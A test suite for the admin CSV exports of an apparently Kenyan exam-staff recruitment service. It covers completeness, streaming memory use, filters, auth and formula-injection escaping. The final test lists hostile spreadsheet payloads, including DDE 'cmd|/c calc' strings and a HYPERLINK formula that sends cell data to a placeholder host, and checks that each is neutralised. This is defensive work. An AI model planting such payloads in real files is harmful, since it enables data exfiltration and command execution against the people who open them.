import { get as httpGet, type IncomingMessage } from 'node:http';
import { runInNewContext } from 'node:vm';
import { setFlagsFromString } from 'node:v8';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { seedVacancies, type Fixture } from '../vacancies/fixtures';
import { startTestApp, type TestApp } from '../support/test-app';
import { encryptAll } from '../../src/domain/personal-data/at-rest';
import { TEST_CIPHER } from '../support/test-app';

const TOKEN = 'ops-token-0123456789abcdef';
const N = 30_000;

let app: TestApp;
let fx: Fixture;
beforeAll(async () => {
  app = await startTestApp({ env: { ADMIN_TOKENS: `ops:${TOKEN}` } });
  fx = await seedVacancies(app.db);
  // 30,000 applicants with a profile; 10 apply for KPSEA, the rest in turn for inv1, inv2 (Nairobi) and
  // marking (Kisumu).
  await app.db.raw(
    `insert into accounts (phone, username, password_hash)
     select '+25419' || lpad(g::text, 7, '0'), '25419' || lpad(g::text, 7, '0'), 'x' from generate_series(1, ?) g`,
    [N],
  );
  await app.db.raw(
    `insert into profiles (account_id, full_name, national_id, gender, county_code)
     select id, 'Applicant "' || id || '", Jr', '9' || right(phone, 7), 'female', '047'
       from accounts where phone like '+25419%'`,
  );
  // Written in plain text like a bulk load: encrypted as the service does at start.
  await encryptAll(app.db, TEST_CIPHER);
  await app.db.raw(
    `insert into applications (account_id, vacancy_id, exam, activity)
     select acc.id, v.id, v.exam, v.activity
       from (select id, row_number() over (order by id) as g from accounts where phone like '+25419%') acc
       join vacancies v on v.id = case when acc.g <= 10 then ?::int when acc.g % 3 = 0 then ?::int when acc.g % 3 = 1 then ?::int else ?::int end`,
    [fx.v.kpsea, fx.v.inv1, fx.v.inv2, fx.v.marking],
  );
}, 60_000);
afterAll(() => app.close());

function get(path: string, token: string | null = TOKEN): Promise<Response> {
  return fetch(`${app.url}/admin${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
}

async function csv(path: string): Promise<Record<string, string>[]> {
  const res = await get(path);
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toContain('text/csv');
  return parse(await res.text(), { columns: true }) as Record<string, string>[];
}

async function count(sql: string, bindings: (string | number)[] = []): Promise<number> {
  const { rows } = await app.db.raw<{ rows: { n: number }[] }>(sql, bindings);
  return Number(rows[0]?.n);
}

test('every application is exported and the CSV parses back (quotes and commas included)', async () => {
  const rows = await csv('/exports/applications.csv');
  const total = await count('select count(*) as n from applications');
  expect(total).toBeGreaterThan(N); // and the fixture's own approved application
  expect(rows).toHaveLength(total);
  expect(new Set(rows.map((r) => r.id)).size).toBe(total);
  expect(Object.keys(rows[0] as object)).toEqual([
    'id',
    'status',
    'applied_at',
    'exam',
    'activity',
    'position',
    'duty_station',
    'county',
    'sub_county',
    'applicant_phone',
    'national_id',
    'full_name',
  ]);
  const one = rows.find((r) => r.full_name?.startsWith('Applicant')) as Record<string, string>;
  expect(one.full_name).toMatch(/^Applicant "\d+", Jr$/);
  expect(one.applicant_phone).toMatch(/^\+25419\d{7}$/);
  expect(one.status).toBe('submitted');
  expect(Number.isNaN(Date.parse(one.applied_at as string))).toBe(false);
  const audit = await app.db('admin_audit').where({ action: 'export.applications' });
  expect(audit.length).toBeGreaterThanOrEqual(1);
  expect(audit[0]).toMatchObject({ actor: 'admin:ops', target: 'exports:applications' });
}, 60_000);

test('the export is streamed: chunked, and the heap does not hold it', async () => {
  setFlagsFromString('--expose-gc');
  const gc = runInNewContext('gc') as () => void;
  // Collect until the heap settles: a single gc() can leave garbage that finalizers free only on a
  // later cycle (a fetch's response body, say), which once made the baseline 7 MB too high.
  const heap = async () => {
    let last = Number.POSITIVE_INFINITY;
    for (let i = 0; i < 10; i++) {
      gc();
      await new Promise((r) => setTimeout(r, 10));
      const now = process.memoryUsage().heapUsed;
      if (Math.abs(last - now) < 256 * 1024) return now;
      last = now;
    }
    return last;
  };
  // node:http rather than fetch: a plain stream, so the client holds no more than one chunk either.
  const download = async (onChunk: (chunks: number) => Promise<void>) => {
    const res = await new Promise<IncomingMessage>((resolve, reject) =>
      httpGet(
        `${app.url}/admin/exports/applications.csv`,
        { headers: { authorization: `Bearer ${TOKEN}` } },
        resolve,
      ).on('error', reject),
    );
    let size = 0;
    let chunks = 0;
    for await (const chunk of res as AsyncIterable<Buffer>) {
      size += chunk.byteLength;
      chunks += 1;
      await onChunk(chunks);
    }
    return { res, size, chunks };
  };
  // A first export warms up what a first run allocates for good (compiled code, caches, pools).
  await download(async () => {});
  const before = await heap();
  // What holding this export in memory costs: its rows as a plain select returns them, and their CSV.
  const held = await app.db.raw<{ rows: Record<string, unknown>[] }>(
    `select a.*, p.*, acc.phone from applications a join accounts acc on acc.id = a.account_id
       left join profiles p on p.account_id = a.account_id`,
  );
  const text = stringify(held.rows);
  const inMemory = (await heap()) - before;
  expect(text.length).toBeGreaterThan(0);
  held.rows.length = 0;
  const base = await heap();
  const growth: number[] = [];
  const { res, size, chunks } = await download(async (n) => {
    // A slow client: the server waits (backpressure) while the heap is measured.
    if (n % 10 === 0) {
      await new Promise((r) => setTimeout(r, 20));
      growth.push((await heap()) - base);
    }
  });
  expect(res.headers['transfer-encoding']).toBe('chunked');
  expect(res.headers['content-length']).toBeUndefined();
  expect(chunks).toBeGreaterThan(20);
  expect(size).toBeGreaterThan(1_000_000);
  // Built in memory, the rows and their text would be held from the first byte to the last (`inMemory`,
  // about 35 MB here); streamed, only what is in flight is: one cursor FETCH of EXPORT_FETCH rows (about
  // 6 MB) and the buffers, plus what the runtime allocates anyway. Hence 30,000 applicants (with 10,000 one
  // FETCH was a fifth of the export and the margin too thin), the median and the margin.
  growth.sort((a, b) => a - b);
  expect(inMemory).toBeGreaterThan(size);
  expect(growth[Math.floor(growth.length / 2)]).toBeLessThan(inMemory / 2);
}, 60_000);

test.each([
  ['vacancy', () => `vacancy=${fx.v.inv1}`, () => ['where vacancy_id = ?', [fx.v.inv1]] as const],
  [
    'county',
    () => 'county=042',
    () =>
      [
        'join vacancies v on v.id = a.vacancy_id join duty_stations d on d.id = v.duty_station_id where d.county_code = ?',
        ['042'],
      ] as const,
  ],
  ['exam', () => 'exam=KPSEA', () => ['where a.exam = ?', ['KPSEA']] as const],
])('applications filtered by %s', async (_name, query, where) => {
  const [clause, bindings] = where();
  const expected = await count(`select count(*) as n from applications a ${clause}`, [...bindings]);
  expect(expected).toBeGreaterThan(0);
  const rows = await csv(`/exports/applications.csv?${query()}`);
  expect(rows).toHaveLength(expected);
  if (_name === 'county') expect(new Set(rows.map((r) => r.county))).toEqual(new Set(['Kisumu']));
  if (_name === 'exam') expect(new Set(rows.map((r) => r.exam))).toEqual(new Set(['KPSEA']));
});

test('profiles: one row per applicant of the matching applications, all profiles without filters', async () => {
  const all = await csv('/exports/profiles.csv');
  expect(all).toHaveLength(await count('select count(*) as n from profiles'));
  // Every field a teacher fills is a column, in the order My profile asks them; places by name.
  const header = (await (await get('/exports/profiles.csv?exam=KPSEA')).text()).split('\n')[0];
  expect(header).toBe(
    'account_id,phone,full_name,national_id,birth_year,gender,kra_pin,email,mpesa_phone,mpesa_name,' +
      'bank_name,bank_branch,bank_account,qualification_level,course,institution,qualification_year,' +
      'employer,tsc_number,work_institution,designation,work_start_year,county,sub_county,kin_name,' +
      'kin_phone,kin_relationship,updated_at',
  );
  const kpsea = await csv('/exports/profiles.csv?exam=KPSEA');
  expect(kpsea).toHaveLength(10);
  expect(kpsea[0]).toMatchObject({ gender: 'female', county: 'Nairobi' });
  expect(kpsea[0]?.full_name).toMatch(/^Applicant/);
  const marking = await csv(`/exports/profiles.csv?vacancy=${fx.v.marking}&county=042`);
  expect(marking).toHaveLength(
    await count('select count(distinct account_id) as n from applications where vacancy_id = ?', [
      fx.v.marking,
    ]),
  );
  expect(await app.db('admin_audit').where({ action: 'export.profiles' })).toHaveLength(4);
}, 60_000);

test('filters are validated, and a token is required', async () => {
  expect((await get('/exports/applications.csv?county=Nairobi')).status).toBe(400);
  expect((await get('/exports/applications.csv?vacancy=abc')).status).toBe(400);
  expect((await get('/exports/applications.csv', null)).status).toBe(401);
  expect((await get('/exports/profiles.csv', 'wrong-token-0123456789abcdef')).status).toBe(401);
});

test('the exports are in the OpenAPI document as text/csv', async () => {
  const doc = (await (await get('/openapi.json')).json()) as {
    paths: Record<string, { get: { responses: Record<string, { content?: object }> } }>;
  };
  expect(doc.paths['/admin/exports/applications.csv']?.get.responses['200']?.content).toHaveProperty(
    'text/csv',
  );
  expect(doc.paths['/admin/exports/profiles.csv']).toBeDefined();
});

test('a formula typed into any text column comes back as text, in both exports', async () => {
  // What a user could type into the profile (all of it GSM-7), one formula trigger after another.
  const hostile: Record<string, string> = {
    full_name: '=HYPERLINK("http://x/?a="&A1,"c")',
    national_id: '=1+1',
    kra_pin: '@SUM(A1:B9)',
    email: '+cmd|"/c calc"!A0',
    mpesa_name: '-2+3+cmd|"/c calc"!A0',
    bank_name: '\t=1+1',
    bank_branch: '\r=1+1',
    course: '=IMPORTXML(A1,"//a")',
    institution: '=HYPERLINK("http://x/?a="&A1,"c")',
    tsc_number: '@A1',
    work_institution: '+A1',
    designation: '-A1',
    kin_name: '=A1',
  };
  const [acc] = await app
    .db('accounts')
    .insert({ phone: '+254100000777', username: '254100000777', password_hash: 'x' })
    .returning('id');
  const accountId = (acc as { id: number }).id;
  // Genuinely numeric cells stay as they are: a negative number, an E.164 phone, digits in a text column.
  const numeric = { birth_year: -1985, mpesa_phone: '+254711000001', bank_account: '-5' };
  await app.db('profiles').insert({ account_id: accountId, ...hostile, ...numeric });
  const vacancy = await app.db('vacancies').where({ id: fx.v.sup1 }).first('exam', 'activity');
  await app.db('applications').insert({ account_id: accountId, vacancy_id: fx.v.sup1, ...vacancy });

  const profiles = await csv(`/exports/profiles.csv?vacancy=${fx.v.sup1}`);
  const profile = profiles.find((r) => r.account_id === String(accountId)) as Record<string, string>;
  for (const [column, value] of Object.entries(hostile)) {
    expect({ column, cell: profile[column] }).toEqual({ column, cell: `'${value}` });
  }
  expect(profile).toMatchObject({ birth_year: '-1985', mpesa_phone: '+254711000001', bank_account: '-5' });

  const applications = await csv(`/exports/applications.csv?vacancy=${fx.v.sup1}`);
  const application = applications.find((r) => r.full_name?.includes('HYPERLINK')) as Record<string, string>;
  expect(application).toMatchObject({
    full_name: `'${hostile.full_name}`,
    national_id: `'${hostile.national_id}`,
    applicant_phone: '+254100000777',
  });
});
